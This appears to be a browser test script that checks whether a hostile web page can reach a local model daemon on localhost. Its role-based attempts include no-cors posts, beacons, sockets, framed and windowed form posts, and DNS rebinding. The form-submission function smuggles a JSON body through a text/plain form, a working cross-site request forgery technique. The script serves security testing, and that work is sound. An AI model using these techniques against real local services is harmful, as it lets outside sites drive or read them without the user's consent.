// What a page of another site may try. `role` and `home` are set by whoever includes this: who runs it, and its own site.
// Every attempt gives what it could read, or null.

const patience = 5000;
const chat = JSON.stringify({ model: 'echo', messages: [{ role: 'user', content: `from the ${role} page` }] });
const json = { 'content-type': 'application/json' };
const completions = (base) => `${base}/v1/chat/completions`;

async function fetched(url, options = {}) {
  const answer = await fetch(url, { signal: AbortSignal.timeout(patience), ...options });
  return answer.type === 'opaque' ? null : `${answer.status} ${await answer.text()}`;
}

// Settles when `listen` has called what it is given, or else after a while.
function told(listen) {
  return new Promise((yes) => {
    setTimeout(() => yes(null), patience);
    listen(yes);
  });
}

function element(name, attributes) {
  return told((yes) => {
    const made = Object.assign(document.createElement(name), attributes);
    made.onload = () => yes(`${name} loaded`);
    made.onerror = () => yes(null);
    document.body.append(made);
  });
}

// A frame tells that it has loaded whatever was answered; what counts is whether it can be looked into.
function framed(start) {
  return told((yes) => {
    const frame = Object.assign(document.createElement('iframe'), { name: `frame${Math.random()}` });
    const look = () => {
      try {
        return frame.contentDocument?.body?.textContent || null;
      } catch {
        return null;
      }
    };
    document.body.append(frame);
    frame.onload = () => yes(look());
    start(frame);
  });
}

// Waits until a window has left the empty page on which it begins.
async function opened(start) {
  const name = `window${Math.random()}`;
  const view = open('about:blank', name);
  if (!view) throw new Error('no window');
  start(name);
  try {
    for (let waited = 0; waited < patience; waited += 50) {
      await new Promise((yes) => setTimeout(yes, 50));
      if (view.location.href !== 'about:blank') return view.document.body.textContent;
    }
  } catch {
    // Another site's.
    return null;
  } finally {
    view.close();
  }
  throw new Error('the window goes nowhere');
}

// JSON in a form: the name is the text before the equals sign, and the value behind it.
function submitted(url, target) {
  const form = Object.assign(document.createElement('form'), { action: url, method: 'post', enctype: 'text/plain', target });
  const value = '"}';
  const name = `${chat.slice(0, -1)},"rest":"`;
  form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
  document.body.append(form);
  form.submit();
}

function socket(base) {
  return told((yes) => {
    const wire = new WebSocket(completions(base).replace(/^http/, 'ws'));
    wire.onopen = () => yes('a socket is open');
    wire.onerror = () => yes(null);
  });
}

function events(base) {
  return told((yes) => {
    const source = new EventSource(`${base}/v1/models`);
    source.onopen = source.onmessage = () => yes('events come');
    source.onerror = () => {
      source.close();
      yes(null);
    };
  });
}

// What the browser sends to another origin for it, whatever the answer: a POST at once, or its question first.
const sends = (method, run) => Object.assign(run, { sends: method });
const post = (options) => (base) => fetched(completions(base), { method: 'POST', body: chat, ...options });
const untyped = () => new Blob([chat]);
const typed = () => new Blob([chat], { type: 'application/json' });
const beacon = (body) => async (base) => {
  if (!navigator.sendBeacon(completions(base), body)) throw new Error('no beacon');
  return null;
};
const detour = (base) => `/detour?${completions(base)}`;

const plain = {
  'text by CORS': sends('POST', post({})),
  'text without CORS': sends('POST', post({ mode: 'no-cors' })),
  'no type by CORS': sends('POST', post({ body: untyped() })),
  'no type without CORS': sends('POST', post({ mode: 'no-cors', body: untyped() })),
  'JSON by CORS': sends('OPTIONS', post({ headers: json })),
  'a key by CORS': sends('OPTIONS', post({ headers: { ...json, authorization: 'Bearer any' } })),
  'the models by CORS': (base) => fetched(`${base}/v1/models`),
  'the models without CORS': (base) => fetched(`${base}/v1/models`, { mode: 'no-cors' }),
  'events': events,
  'a socket': socket,
};
const whole = {
  ...plain,
  'text with cookies': sends('POST', post({ credentials: 'include' })),
  'text that outlives the page': sends('POST', post({ mode: 'no-cors', keepalive: true })),
  'text by a detour': sends('POST', (base) => fetched(detour(base), { method: 'POST', mode: 'no-cors', body: chat })),
  'a beacon of text': sends('POST', beacon(chat)),
  'a beacon of JSON': sends('OPTIONS', beacon(typed())),
  'a form in a frame': sends('POST', (base) => framed((frame) => submitted(completions(base), frame.name))),
  'a form in a window': sends('POST', (base) => opened((name) => submitted(completions(base), name))),
  'a form by a detour': sends('POST', (base) => framed((frame) => submitted(detour(base), frame.name))),
  'a picture': (base) => element('img', { src: `${base}/v1/models` }),
  'a script': (base) => element('script', { src: `${base}/v1/models` }),
  'a style sheet': (base) => element('link', { rel: 'stylesheet', href: `${base}/v1/models` }),
  'a frame of the models': (base) => framed((frame) => (frame.src = `${base}/v1/models`)),
  'a frame of the page': (base) => framed((frame) => (frame.src = `${base}/`)),
  'a window of the models': (base) => opened((name) => open(`${base}/v1/models`, name)),
  'a window of the page': (base) => opened((name) => open(`${base}/`, name)),
};

async function attempt(name, run, base) {
  // Its own origin is asked nothing first.
  const sends = run.sends && base === location.origin ? 'POST' : run.sends;
  try {
    return { name, base, sends, read: await run(base) };
  } catch (cause) {
    return { name, base, sends, read: null, failed: String(cause) };
  }
}

async function attempts(list, bases) {
  const tried = bases.map(async (base) => {
    const tried = [];
    for (const [name, run] of Object.entries(list)) tried.push(await attempt(name, run, base));
    return tried;
  });
  return (await Promise.all(tried)).flat();
}

function report(of, tried) {
  return fetch(`${home}/report?${of}`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(tried) });
}

// Where the daemon is, once it is there.
async function bases() {
  const { plain, tls } = await (await fetch(`${home}/go`)).json();
  return [`http://127.0.0.1:${plain}`, `http://localhost:${plain}`, `https://127.0.0.1:${tls}`, `https://localhost:${tls}`];
}

async function main() {
  if (role === 'rebound') {
    // Until now this origin was the evil site's.
    await fetch(`${home}/loaded`, { method: 'POST', mode: 'no-cors' });
    await bases();
    await report(role, await attempts(plain, [location.origin]));
  } else if (role === 'evil') {
    await report(role, await attempts(whole, await bases()));
  } else if (role === 'honest') {
    const [first, second] = await bases();
    await report(role, await attempts({ 'JSON by CORS': plain['JSON by CORS'] }, [first, second]));
  } else {
    await report(role, await attempts(plain, await bases()));
  }
}

main();
